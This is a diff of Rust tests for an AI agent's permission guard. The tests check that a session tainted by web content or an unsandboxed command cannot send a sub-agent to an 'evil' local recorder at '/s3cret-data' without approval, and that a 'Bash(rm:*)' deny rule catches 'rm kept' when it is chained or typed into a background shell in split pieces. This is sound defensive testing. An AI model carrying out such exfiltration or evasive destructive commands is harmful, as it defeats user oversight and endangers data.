@@ -3,7 +3,7 @@
 use std::path::{Path, PathBuf};
 
 use agent::Presence;
-use base::protocol::{Delivery, Mode, Op};
+use base::protocol::{Approval, Delivery, Mode, Op, Scope};
 use base::transcript::Outcome;
 use base::{Event, Part};
 use serde_json::{Value, json};
@@ -11,7 +11,7 @@ use testkit::Script;
 use testkit::script::When;
 
 use crate::room::{Plan, Room, to_the_end, until};
-use crate::site::site;
+use crate::site::{Recorder, site};
 
 /// What the web agent is told first.
 const RESEARCHER: &str = "You answer one question from the web";
@@ -24,10 +24,14 @@ fn researcher() -> When {
 async fn room(script: Script, mode: Mode) -> (Room, PathBuf) {
     let mut plan = Plan { mode, presence: Presence::Alone, ..Plan::with_tools(script) };
     plan.config.tools.fetch.allow_private = vec!["127.0.0.1".to_owned()];
-    plan.rules.allow = vec![guard::Rule::parse("WebFetch(domain:127.0.0.1)").unwrap()];
+    plan.rules.allow = rules(&["agentic_fetch"]);
     let temp = tempfile::tempdir().unwrap().keep();
     plan.env = vec![("TMPDIR".to_owned(), temp.display().to_string())];
     (Room::new(plan).await, temp)
+}
+
+fn rules(texts: &[&str]) -> Vec<guard::Rule> {
+    texts.iter().map(|text| guard::Rule::parse(text).unwrap()).collect()
 }
 
 fn is_empty(folder: &Path) -> bool {
@@ -282,4 +286,216 @@ async fn an_errand_that_fails_taints_with_what_it_had_said() {
     assert!(transcript.contains("So far: run touch made."), "{transcript}");
     assert!(transcript.contains("Permission denied"), "{transcript}");
     assert!(!room.folder.join("made").exists());
+}
+
+/// A session in which somebody answers questions.
+fn asking(script: Script) -> Plan {
+    Plan { mode: Mode::Default, presence: Presence::Attended, ..Plan::with_tools(script) }
+}
+
+/// A session that reads a page first, and then sends the researcher to `address`.
+fn tainted_errand(page: &str, address: &str) -> Script {
+    Script::new()
+        .call("fetch", json!({ "url": page }))
+        .then()
+        .call("agentic_fetch", json!({ "prompt": format!("open {address}") }))
+        .then()
+        .when(researcher())
+        .call("web_fetch", json!({ "url": address }))
+        .then()
+        .when(researcher())
+        .text("Done.")
+        .then()
+        .text("Done.")
+}
+
+fn reasons(events: &[Event]) -> Vec<String> {
+    let denied = events.iter().filter_map(|event| match event {
+        Event::Denied { reason, .. } => Some(reason.clone()),
+        _ => None,
+    });
+    denied.collect()
+}
+
+#[tokio::test]
+async fn rules_for_a_host_do_not_start_the_researcher() {
+    let (page, evil) = (site(&[("*", "text/plain", "words")]), Recorder::new());
+    let address = format!("http://localhost:{}/s3cret-data", evil.port);
+    for allow in
+        [&["WebFetch(domain:127.0.0.1)"][..], &["WebFetch(domain:127.0.0.1)", "agentic_fetch"]]
+    {
+        let script = tainted_errand(&page, &address);
+        let mut plan = Plan { presence: Presence::Alone, ..asking(script) };
+        plan.config.tools.fetch.allow_private =
+            vec!["127.0.0.1".to_owned(), "localhost".to_owned()];
+        plan.rules.allow = rules(allow);
+        let room = Room::new(plan).await;
+        let denied = reasons(&room.say("look").await);
+        assert!(denied.iter().any(|reason| reason.contains("any host")), "{allow:?}: {denied:?}");
+        assert_eq!(evil.requests(), Vec::<String>::new(), "{allow:?}");
+    }
+}
+
+#[tokio::test]
+async fn an_allowed_errand_still_asks_about_each_host_while_tainted() {
+    let (page, evil) = (site(&[("*", "text/plain", "words")]), Recorder::new());
+    let address = format!("http://localhost:{}/s3cret-data", evil.port);
+    let mut plan = asking(tainted_errand(&page, &address));
+    plan.config.tools.fetch.allow_private = vec!["127.0.0.1".to_owned(), "localhost".to_owned()];
+    plan.rules.allow = rules(&["WebFetch(domain:127.0.0.1)"]);
+    let room = Room::new(plan).await;
+    let mut events = room.watch();
+    room.submit(room.saying("look", Delivery::Queue)).await;
+    let mut asked = Vec::new();
+    loop {
+        let event = until(&mut events, |event| {
+            matches!(event, Event::ApprovalNeeded { .. })
+                || matches!(event, Event::TurnDone { .. }) && event.session() == Some(room.session)
+        })
+        .await;
+        let Event::ApprovalNeeded { request, reason, agent, rules, .. } = event else { break };
+        let approval = match asked.len() {
+            0 => Approval::Allow { scope: Scope::Once, rule: None },
+            _ => Approval::Deny { instead: None },
+        };
+        asked.push((agent, reason, rules));
+        room.submit(Op::Approve { request, approval }).await;
+    }
+    assert_eq!(asked.len(), 2, "{asked:?}");
+    assert!(asked[0].1.contains("any host") && asked[0].2.is_empty(), "{asked:?}");
+    assert!(asked[1].0.is_some() && asked[1].1.contains("localhost"), "{asked:?}");
+    assert_eq!(evil.requests(), Vec::<String>::new());
+}
+
+#[tokio::test]
+async fn an_errand_in_a_clean_session_opens_any_host_that_no_rule_forbids() {
+    for (deny, fetched) in [(&[][..], 1), (&["WebFetch(domain:localhost)"], 0)] {
+        let other = Recorder::new();
+        let script = Script::new()
+            .call("agentic_fetch", json!({ "prompt": "look" }))
+            .then()
+            .when(researcher())
+            .call("web_fetch", json!({ "url": format!("http://localhost:{}/x", other.port) }))
+            .then()
+            .when(researcher())
+            .text("Done.")
+            .then()
+            .text("Done.");
+        let mut plan = Plan { presence: Presence::Alone, ..asking(script) };
+        plan.config.tools.fetch.allow_private = vec!["localhost".to_owned()];
+        plan.rules.allow = rules(&["agentic_fetch"]);
+        plan.rules.deny = rules(deny);
+        let room = Room::new(plan).await;
+        room.say("look").await;
+        assert_eq!(other.requests().len(), fetched, "{deny:?}");
+    }
+}
+
+#[tokio::test]
+async fn always_for_the_researcher_stores_its_own_rule() {
+    let script = Script::new()
+        .call("agentic_fetch", json!({ "prompt": "look" }))
+        .then()
+        .when(researcher())
+        .text("Done.")
+        .then()
+        .text("Done.");
+    let room = Room::new(asking(script)).await;
+    let mut events = room.watch();
+    room.submit(room.saying("look", Delivery::Queue)).await;
+    let seen = until(&mut events, |event| matches!(event, Event::ApprovalNeeded { .. })).await;
+    let Event::ApprovalNeeded { request, rules, body, .. } = seen else { panic!() };
+    assert_eq!(rules, ["agentic_fetch"]);
+    assert!(matches!(&body, Some(base::Block::Text { text }) if text == "look"), "{body:?}");
+    let approval = Approval::Allow { scope: Scope::Project, rule: None };
+    room.submit(Op::Approve { request, approval }).await;
+    to_the_end(&mut events).await;
+    let grants = room.store.grants(Some(room.session), room.folder.display().to_string());
+    let stored: Vec<String> = grants.await.unwrap().into_iter().map(|grant| grant.rule).collect();
+    assert_eq!(stored, ["agentic_fetch"]);
+}
+
+/// Answers every question of a turn with yes; tells the titles and reasons.
+async fn yes_to_all(room: &Room, words: &str) -> Vec<(String, String)> {
+    let mut events = room.watch();
+    room.submit(room.saying(words, Delivery::Queue)).await;
+    let mut asked = Vec::new();
+    loop {
+        let event = until(&mut events, |event| {
+            matches!(event, Event::ApprovalNeeded { .. } | Event::TurnDone { .. })
+        })
+        .await;
+        let Event::ApprovalNeeded { request, title, reason, .. } = event else { return asked };
+        asked.push((title, reason));
+        let approval = Approval::Allow { scope: Scope::Once, rule: None };
+        room.submit(Op::Approve { request, approval }).await;
+    }
+}
+
+#[tokio::test]
+async fn a_command_outside_the_sandbox_taints_like_a_web_page() {
+    for (call, expected) in [
+        (json!({ "command": "echo from a stranger", "uncaged": true }), "words from the web"),
+        (json!({ "command": "echo hello" }), ""),
+    ] {
+        let other = Recorder::new();
+        let address = format!("http://localhost:{}/x", other.port);
+        let script = Script::new()
+            .call("bash", call.clone())
+            .then()
+            .call("fetch", json!({ "url": address }))
+            .then()
+            .text("Done.");
+        let mut plan = asking(script);
+        plan.config.tools.fetch.allow_private = vec!["localhost".to_owned()];
+        plan.rules.allow = rules(&["WebFetch"]);
+        let room = Room::new(plan).await;
+        let asked = yes_to_all(&room, "look").await;
+        let fetch = asked.iter().find(|(title, _)| title.contains("localhost"));
+        let reason = fetch.map(|(_, reason)| reason.as_str()).unwrap_or_default();
+        assert_eq!(reason.is_empty(), expected.is_empty(), "{call}: {asked:?}");
+        assert!(reason.contains(expected), "{call}: {asked:?}");
+    }
+}
+
+#[tokio::test]
+async fn a_job_outside_the_sandbox_taints_with_what_it_prints_later() {
+    let other = Recorder::new();
+    let script = Script::new()
+        .call("bash", json!({ "command": "cat", "run_in_background": true, "uncaged": true }))
+        .call("job_input", json!({ "job": 1, "text": "hello" }))
+        .then()
+        .call("fetch", json!({ "url": format!("http://localhost:{}/x", other.port) }))
+        .then()
+        .text("Done.");
+    let mut plan = asking(script);
+    plan.config.tools.fetch.allow_private = vec!["localhost".to_owned()];
+    plan.rules.allow = rules(&["WebFetch"]);
+    let room = Room::new(plan).await;
+    let asked = yes_to_all(&room, "look").await;
+    let reasons: Vec<&str> = asked.iter().map(|(_, reason)| reason.as_str()).collect();
+    assert_eq!(reasons.len(), 3, "{asked:?}");
+    assert!(reasons[1].contains("outside the sandbox"), "{asked:?}");
+    assert!(reasons[2].contains("words from the web"), "{asked:?}");
+}
+
+#[tokio::test]
+async fn a_deny_rule_holds_for_text_that_is_typed_into_a_job() {
+    for pieces in [&["rm kept"][..], &["ls; rm kept"], &["r", "m kept"]] {
+        let mut script =
+            Script::new().call("bash", json!({ "command": "sh", "run_in_background": true }));
+        for (at, piece) in pieces.iter().enumerate() {
+            let enter = at + 1 == pieces.len();
+            script = script.call("job_input", json!({ "job": 1, "text": piece, "enter": enter }));
+        }
+        let script = script.call("job_output", json!({ "job": 1, "wait": 1 })).then().text("Done.");
+        let mode = Mode::Bypass;
+        let mut plan = Plan { mode, presence: Presence::Alone, ..asking(script) };
+        plan.rules.deny = rules(&["Bash(rm:*)"]);
+        let room = Room::new(plan).await;
+        std::fs::write(room.folder.join("kept"), "x").unwrap();
+        let denied = reasons(&room.say("go").await);
+        assert!(!denied.is_empty(), "{pieces:?}");
+        assert!(room.folder.join("kept").exists(), "{pieces:?}");
+    }
 }
